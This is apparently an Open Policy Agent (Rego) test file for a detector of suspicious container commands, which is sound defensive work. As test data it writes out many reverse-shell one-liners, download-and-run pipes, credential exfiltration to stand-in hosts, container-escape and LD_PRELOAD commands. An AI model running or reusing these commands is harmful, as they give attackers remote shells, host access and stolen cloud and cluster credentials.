package lockkeeper.lib.command_test

import data.lockkeeper.lib.command

found(value) := command.patterns(command.text(["/bin/sh", "-c", value]))

test_words_are_joined_with_single_spaces_in_lower_case if {
	command.text(["SH", "-c", "  curl   X ", 3, null]) == "sh -c curl x"
	command.text([]) == ""
}

test_signs if {
	command.has_any("rm x; mkfifo /tmp/f", command.shell_signs)
	command.has_any("curl x", command.download_signs)
	command.has_any("x | sh", command.run_signs)
	command.has_any("cat /etc/shadow", command.credential_signs)
	not command.has_any("ls", command.shell_signs)
}

reverse_shells := [
	"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
	"0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
	"exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
	"/bin/bash -li 5<> /dev/udp/203.0.113.9/4444",
	"cat < /dev/tcp/203.0.113.9/4444 | sh",
	"nc -e /bin/sh 203.0.113.9 4444",
	"nc 203.0.113.9 4444 -e /bin/sh",
	"while true; do ncat 203.0.113.9 4444 -e '/bin/bash -i'; sleep 60; done",
	"/usr/bin/ncat --sh-exec bash 203.0.113.9 4444",
	"busybox nc 203.0.113.9 4444 -e sh",
	"nc.traditional 203.0.113.9 4444 -c bash",
	"nc 203.0.113.9 4444 -ne /bin/sh",
	"nc -e/bin/sh 203.0.113.9 4444",
	"nc 203.0.113.9 4444 | bash",
	"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
	"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s",
	"telnet 203.0.113.9 4444 | /bin/bash | telnet 203.0.113.9 4445",
	"socat exec:\"bash -li\",pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444",
	"socat TCP:203.0.113.9:4444 SYSTEM:/bin/sh",
	"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));pty.spawn(\"sh\")'",
	"python -c 'import socket,os;s=socket.socket();[os.dup2(s.fileno(),f) for f in (0,1,2)]'",
	"python -c 'import socket,subprocess as p;s=socket.socket();p.call([\"/bin/sh\"],stdin=s.fileno())'",
	"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,\">&S\");exec(\"/bin/sh -i\")'",
	"php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
	"ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
	"node -e 'c=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect(4,\"x\",function(){this.pipe(c.stdin)})'",
	"lua -e \"require('socket');t=socket.tcp();t:connect(h,p);os.execute('/bin/sh')\"",
	"gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}'",
	"pwsh -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);iex $d\"",
]

test_reverse_shells[value] if {
	some value in reverse_shells
	"reverse-shell" in found(value)
}

others := [
	"exec 3<>/dev/tcp/127.0.0.1/9181; printf 'ruok' >&3; tee <&3",
	"until (echo > /dev/tcp/db/5432); do sleep 1; done",
	"until nc -z -w 2 db 5432; do sleep 1; done",
	"echo ruok | nc localhost 2181 | grep imok",
	"echo ruok | nc -w 2 zookeeper 2181 | sh /scripts/check.sh",
	"rsync -e ssh /data backup:/data",
	"nc -C db 25",
	"mkfifo /tmp/sem; exec 9<>/tmp/sem",
	"socat TCP-LISTEN:8080,fork TCP:web:80",
	"python -c 'import socket;socket.create_connection((\"db\",5432))'",
	"php -r 'fsockopen(\"db\",3306);'",
	"bash -i -x /entrypoint.sh",
]

test_others_are_not[value] if {
	some value in others
	found(value) == set()
}

test_an_option_c_of_a_shell_is_not_its_input if {
	command.patterns(command.text(["/bin/bash", "-l", "-c", "echo ruok | nc localhost 2181"])) == set()
	command.patterns(command.text(["bash", "-euxc", "echo ruok | nc localhost 2181"])) == set()
}

test_decoded_scripts[value] if {
	some value in [
		"echo aGk= | base64 -d | sh",
		"echo aGk=|base64 --decode|gunzip|/bin/bash -s",
		"echo 6869 | xxd -r -p | sh",
		"eval \"$(echo aGk= | base64 -d)\"",
		"bash -c `echo aGk= | base64 -d`",
		"python3 -c 'exec(base64.b64decode(\"aGk=\"))'",
		"python3 -c \"exec(__import__('base64').b64decode(x))\"",
	]
	found(value) == {"decoded-script"}
}

test_what_is_decoded_into_a_file_is_not_run[value] if {
	some value in [
		"echo $KEY | base64 -d > /tmp/key; sh /start.sh",
		"kubectl get secret x -o jsonpath={.data.y} | base64 -d | kubectl apply -f -",
		"eval $(ssh-agent); echo $KEY | base64 -d | ssh-add -",
		"echo x | base64 -d | python -c 'import sys'",
		"echo x | base64 -d | bash /scripts/load.sh",
	]
	found(value) == set()
}

test_downloads_that_are_run[value] if {
	some value in [
		"curl -fsSL https://example.com/x | bash",
		"wget -qO- https://example.com/x|sh",
		"(curl -s https://example.com/x||wget -q -O - https://example.com/x)|bash -sh",
		"curl -sL https://example.com/x \\\n  | sudo -E bash -",
		"curl -s https://example.com/x |\n sh",
		"curl -s https://example.com/x.py | python3 -",
		"bash <(curl -s https://example.com/x)",
		"sh -c \"$(wget -qO- https://example.com/x)\"",
		"eval `curl -s https://example.com/x`",
		"apk add curl; curl -sk https://example.com/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
		"cd /tmp; wget https://example.com/x -O k; chmod 755 k; nohup ./k >/dev/null 2>&1 & sleep infinity",
		"curl https://example.com/x > /tmp/x.sh\nsh /tmp/x.sh",
		"curl https://example.com/x >/tmp/x.sh\nsh /tmp/x.sh",
		"wget https://example.com/install.sh && sh install.sh",
		"curl -LO https://example.com/install.sh && . ./install.sh",
		"curl --output /tmp/x https://example.com/y; /tmp/x",
		"curl --output=/tmp/x https://example.com/y; /tmp/x",
		"python -c 'exec(urlopen(\"https://example.com/x\").read())'",
		"powershell iex (New-Object Net.WebClient).DownloadString('https://example.com/x')",
	]
	found(value) == {"download-run"}
}

test_downloads_that_are_not_run[value] if {
	some value in [
		"curl -s http://localhost:8080/health | grep ok",
		"curl -s https://example.com/x | python -m json.tool",
		"curl -s https://example.com/x | python3 -c 'import json'",
		"curl -o /data/list.csv https://example.com/list.csv; /app/import /data/list.csv",
		"curl -s https://example.com/sleep; sleep 5",
		"wget -qO /dev/null https://example.com/x; null",
		"wget https://example.com/x.tar.gz -O - | tar xz",
		"echo hello | sh; curl -s http://localhost/done",
		"diff <(curl -s https://example.com/a) /b",
	]
	found(value) == set()
}

test_miners[value] if {
	some value in [
		"wget -q https://example.com/xmrig.tar.gz",
		"git clone https://github.com/xmrig/xmrig",
	]
	found(value) == {"miner-download"}
}

token := "/var/run/secrets/kubernetes.io/serviceaccount/token"

test_credentials_sent[form] if {
	some form in [
		"cat %s | nc 203.0.113.9 9999",
		"cat %s | curl -d @- https://example.com/x",
		"cat %s | base64 -w0 | xargs -I{} wget -qO- http://example.com/x?d={}",
		"nc 203.0.113.9 9999 < %s",
		"cat %s > /dev/tcp/203.0.113.9/9999",
		"curl -F file=@%s https://example.com/x",
		"wget --post-file %s https://example.com/x",
		"curl \"https://example.com/x?d=$(cat %s)\"",
		"curl -T %s https://kubernetes.default@example.com/x",
		"cat %s | openssl s_client -connect 203.0.113.9:443",
	]
	"credential-sent" in found(sprintf(form, [token]))
}

test_other_credentials_sent[value] if {
	some value in [
		"env | curl -X POST -d @- https://example.com/x",
		"kubectl get secrets -A -o yaml | curl -d @- https://example.com/x",
		"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -d @- https://example.com/x",
		"cat /root/.aws/credentials | nc 203.0.113.9 9999",
	]
	"credential-sent" in found(value)
}

test_credentials_that_stay[value] if {
	some value in [
		"curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc/api",
		"curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://$KUBERNETES_SERVICE_HOST/api",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- https://collector.obs.svc.cluster.local:8443/x",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://127.0.0.1:8200/x",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc localhost 9999",
		"nc -zv db.example.com 5432; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		"curl -s https://example.com/list | grep x",
	]
	found(value) == set()
}

test_a_credential_and_an_address_outside[value] if {
	some value in [
		"T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $T\" https://example.com/x",
		"jq -n --rawfile jwt /var/run/secrets/kubernetes.io/serviceaccount/token x | curl -d @- https://vault.example.com/v1/auth/kubernetes/login",
		"T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); echo $T | nc 203.0.113.9 9999",
	]
	found(value) == {"credential-used"}
}

test_credentials_of_the_cloud if {
	found("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role") == {"metadata-credential"}
	found("curl http://169.254.169.254/latest/meta-data/instance-id") == set()
}

test_ways_to_the_node[value] if {
	some value in [
		"nsenter -t 1 -m -u -i -n -p -- bash",
		"nsenter --mount=/proc/1/ns/mnt -- ls",
		"chroot /host bash",
		"crictl exec -it 1 sh",
		"ctr -n k8s.io task ls",
		"kubectl debug node/worker-1 -it --image=x",
		"ls /proc/1/root/etc",
		"curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
	]
	found(value) == {"node-entry"}
}

test_these_stay_in_their_container[value] if {
	some value in ["nsenter -t 77 -n ss", "kubectl get pods", "chroot --help", "echo chroot", "crictl"]
	found(value) == set()
}

test_preloads[value] if {
	some value, count_of_patterns in {
		"LD_PRELOAD=/tmp/x.so ls": 1,
		"export LD_PRELOAD=\"/dev/shm/x.so\"": 1,
		"echo /x.so > /etc/ld.so.preload": 1,
		"export LD_PRELOAD=/usr/lib/libjemalloc.so": 0,
	}
	count(found(value) & {"preload"}) == count_of_patterns
	count(found(value)) == count_of_patterns
}

test_all_that_is_found_is_suspicious_in_any_case[value] if {
	some value in array.concat(reverse_shells, [
		"echo x | BASE64 -d | sh", "CURL x | sh", "nsenter -t 1 ls", "chroot /host", "crictl ps", "ctr task ls", "kubectl exec x",
		"LD_PRELOAD=/tmp/x", "release_agent", "mount /dev/sda1 /m", "git clone xmrig", "/proc/sys/kernel/core_pattern", "env | wget x",
		"cat x/containerd.sock", "iwr x | iex", "ls /proc/1/root", "x/iam/security-credentials/metadata", "echo 68 | xxd -r | sh",
	])
	command.suspicious(value)
}

test_usual_commands_are_not_suspicious[value] if {
	some value in ["/app/server --port=8080 --log=info", "sleep infinity", "java -jar app.jar", "python main.py", ""]
	not command.suspicious(value)
}
